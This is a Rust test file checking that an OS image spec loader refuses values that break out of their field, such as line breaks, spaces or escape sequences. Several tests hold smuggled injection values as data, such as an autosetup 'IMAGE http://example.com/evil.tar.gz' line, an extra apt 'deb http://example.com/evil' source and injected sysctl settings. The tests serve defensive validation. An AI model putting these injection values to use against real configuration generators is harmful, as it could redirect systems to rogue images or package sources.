//! Issue 12: specs written to break out of the values they fill in, each refused with the field
//! and its position.

use expect_test::{Expect, expect};

use crate::MapFiles;

/// What the hostile specs add to the valid spec of `spec_errors`: a dedicated-server layout and
/// every section a hostile value may go into.
const EXTRA: &str = r#"
[base.rootfs]
suite = "bookworm"
components = ["main"]

[system.sysctls]
"vm.max_map_count" = "262144"

[[system.files]]
path = "/etc/motd"
content = "hello"

[hcloud]
architectures = ["x86"]
server_type = { x86 = "cx23" }

[robot]
hostname = "node-{server_number}"

[robot.disk]
drives = ["/dev/sda", "/dev/sdb"]
raid_level = 1

[[robot.disk.partitions]]
mount = "/boot"
filesystem = "ext4"
size = "1G"

[[robot.disk.partitions]]
mount = "lvm"
volume_group = "vg0"
size = "all"

[[robot.disk.volumes]]
vg = "vg0"
name = "root"
mount = "/"
filesystem = "ext4"
size = "all"
"#;

/// The valid spec of `spec_errors` with [`EXTRA`].
fn valid() -> String {
    format!("{}{EXTRA}", crate::spec_errors::VALID)
}

/// Loads the valid spec with `from` replaced by `to` (a TOML fragment) and shows the diagnostics.
fn check_replaced(from: &str, to: &str, expect: Expect) {
    let valid = valid();
    assert!(valid.contains(from), "{from:?} is not in the valid spec");
    let spec = valid.replacen(from, to, 1);
    let actual = match caph_core::spec::load("images/x.toml", spec.as_bytes(), &MapFiles::default())
    {
        Ok(_) => "ok".to_string(),
        Err(diagnostics) => {
            let text = diagnostics.to_string();
            // One diagnostic a line, each with its position, whatever the values hold.
            assert_eq!(text.lines().count(), diagnostics.0.len(), "{text}");
            text
        }
    };
    expect.assert_eq(&actual);
}

#[test]
fn the_hostile_specs_base_is_valid() {
    check_replaced("", "", expect!["ok"]);
}

#[test]
fn issue_12_a_drive_cannot_add_an_image_line_to_the_autosetup_file() {
    check_replaced(
        r#"drives = ["/dev/sda", "/dev/sdb"]"#,
        r#"drives = ["/dev/sda\nIMAGE http://example.com/evil.tar.gz", "/dev/sdb"]"#,
        expect![[
            r#"images/x.toml:42:11: robot.disk.drives[0] "/dev/sda\nIMAGE http://example.com/evil.tar.gz" holds a line break (\n), which an autosetup line cannot hold in one field; write it as one word, without blanks or #"#
        ]],
    );
}

#[test]
fn issue_12_a_volume_mount_cannot_add_lines_or_fields() {
    check_replaced(
        "mount = \"/\"\n",
        "mount = \"/\\rSWRAID 0\"\n",
        expect![[
            r#"images/x.toml:58:9: robot.disk.volumes[0].mount "/\rSWRAID 0" holds a line break (\r), which an autosetup line cannot hold in one field; write it as one word, without blanks or #"#
        ]],
    );
    check_replaced(
        "mount = \"/\"\n",
        "mount = \"/ xfs 10G\"\n",
        expect![[
            r#"images/x.toml:58:9: robot.disk.volumes[0].mount "/ xfs 10G" holds a space, which an autosetup line cannot hold in one field; write it as one word, without blanks or #"#
        ]],
    );
}

#[test]
fn issue_12_sysctl_values_are_one_line_for_every_reader() {
    // A vertical tab or a paragraph separator ends a line for some readers too.
    check_replaced(
        r#""vm.max_map_count" = "262144""#,
        r#""vm.max_map_count" = "1\u000bkernel.panic = 0""#,
        expect![[
            r#"images/x.toml:28:22: system.sysctls.vm.max_map_count "1\u{b}kernel.panic = 0" holds a line break (\u{b}), which /etc/sysctl.d/99-zz-caph-image.conf cannot hold in one line; write it as plain text on one line"#
        ]],
    );
}

#[test]
fn issue_12_apt_components_cannot_add_a_sources_line() {
    check_replaced(
        r#"components = ["main"]"#,
        r#"components = ["main\ndeb http://example.com/evil bookworm main"]"#,
        expect![[
            r#"images/x.toml:25:15: base.rootfs.components[0] "main\ndeb http://example.com/evil bookworm main" holds a line break (\n), which the apt sources mmdebstrap writes cannot hold in one field; write it as plain text on one line"#
        ]],
    );
}

#[test]
fn issue_12_server_type_and_description_stay_on_their_line() {
    check_replaced(
        r#"server_type = { x86 = "cx23" }"#,
        r#"server_type = { x86 = "cx23\n      imageName: other" }"#,
        expect![[
            r#"images/x.toml:36:23: hcloud.server_type.x86 "cx23\n      imageName: other" holds a line break (\n), which the HCloudMachineTemplate a build prints cannot hold in one field; write it as plain text on one line"#
        ]],
    );
    check_replaced(
        r#"name = "test-image""#,
        r#"name = "test-image"
description = "Debian \u001b[2J node""#,
        expect![[
            r#"images/x.toml:3:15: image.description "Debian \u{1b}[2J node" holds the control character U+001B (\u{1b}), which the one-line listing of `caph-image images list` cannot hold in one line; write it as plain text on one line"#
        ]],
    );
}

#[test]
fn issue_12_values_other_rules_refuse_are_shown_escaped_on_one_line() {
    check_replaced(
        r#"name = "test-image""#,
        r#"name = "test\nimages/x.toml:1:1: fake diagnostic""#,
        expect![[
            r#"images/x.toml:2:8: image.name "test\nimages/x.toml:1:1: fake diagnostic" is not a valid label value: '\n' is not allowed; use [A-Za-z0-9._-], at most 63 characters, starting and ending with a letter or digit"#
        ]],
    );
}

#[test]
fn issue_12_paths_that_differ_only_in_spelling_are_one_path() {
    check_replaced(
        "[hcloud]",
        "[[system.files]]\npath = \"/etc//motd\"\ncontent = \"other\"\n\n[hcloud]",
        expect![[
            r#"images/x.toml:35:8: system.files[1].path "/etc//motd" is not in normal form; write "/etc/motd""#
        ]],
    );
    check_replaced(
        r#"drives = ["/dev/sda", "/dev/sdb"]"#,
        r#"drives = ["/dev/sda", "/dev/./sda"]"#,
        expect![[
            r#"images/x.toml:42:23: robot.disk.drives[1] "/dev/./sda" is not in normal form; write "/dev/sda""#
        ]],
    );
}

/// The hostile spec's base, loaded, for renderer tests that change it past validation.
fn loaded() -> caph_core::ImageSpec {
    caph_core::spec::load("images/x.toml", valid().as_bytes(), &MapFiles::default())
        .expect("the base spec is valid")
}

#[test]
fn issue_12_the_plan_refuses_values_that_break_its_line_files() {
    use caph_core::Arch;
    use caph_core::plan::{self, Target};

    let render_error = |spec: &caph_core::ImageSpec| {
        plan::render(spec, Target::Tarball, Arch::X86)
            .map(|_| ())
            .map_err(|error| error.to_string())
    };
    assert_eq!(render_error(&loaded()), Ok(()));

    // sysctl.d: `key = value` lines.
    let mut spec = loaded();
    spec.system.sysctls.insert(
        "vm.swappiness".into(),
        "1\nkernel.modules_disabled = 1".into(),
    );
    expect![[r#"refusing to write /etc/sysctl.d/99-zz-caph-image.conf: "1\nkernel.modules_disabled = 1" holds a line break (\n)"#]].assert_eq(&render_error(&spec).unwrap_err());

    // modules-load.d: one module a line.
    let mut spec = loaded();
    spec.system.kernel_modules.push("dm_crypt\nnbd".into());
    expect![[r#"refusing to write /etc/modules-load.d/caph-image.conf: "dm_crypt\nnbd" holds a line break (\n)"#]].assert_eq(&render_error(&spec).unwrap_err());

    // An apt sources line: the repository is one field.
    let mut spec = loaded();
    spec.kubernetes.source = caph_core::spec::KubernetesSource::Apt {
        repository: "https://pkgs.k8s.io/core:/stable:/v1.34/deb/ /\ndeb http://example.com/evil"
            .into(),
        key_url: "https://pkgs.k8s.io/core:/stable:/v1.34/deb/Release.key".into(),
        key_sha256: None,
    };
    expect![[r#"refusing to write /etc/apt/sources.list.d/kubernetes.list: "https://pkgs.k8s.io/core:/stable:/v1.34/deb/ /\ndeb http://example.com/evil" holds a line break (\n)"#]].assert_eq(&render_error(&spec).unwrap_err());
}

#[test]
fn issue_12_a_spec_with_a_hundred_thousand_problems_is_read_in_linear_time() {
    // 60,000 bad module names on one line and 20,000 files: positioning each problem by
    // counting from the line's start, and checking each value against every diagnostic and
    // each path against every file, made this quadratic (tens of seconds); now it is a pass.
    let modules: Vec<String> = (0..60_000).map(|n| format!("\"bad module {n}\"")).collect();
    let files: String = (0..20_000)
        .map(|n| {
            format!(
                "[[system.files]]\npath = \"/etc/f{}\"\ncontent = \"x\"\n",
                n % 10_000
            )
        })
        .collect();
    let spec = format!(
        "{}\n[system]\nkernel_modules = [{}]\n{files}",
        crate::spec_errors::VALID,
        modules.join(", ")
    );
    let diagnostics = caph_core::spec::load("images/x.toml", spec.as_bytes(), &MapFiles::default())
        .expect_err("refused");
    assert_eq!(diagnostics.0.len(), 70_000);
    let last_module = &diagnostics.0[59_999];
    assert_eq!(last_module.field, "system.kernel_modules[59999]");
    assert_eq!(last_module.line, 24);
    assert_eq!(
        last_module.column,
        spec.lines()
            .nth(23)
            .unwrap()
            .find("\"bad module 59999\"")
            .unwrap()
            + 1
    );
}
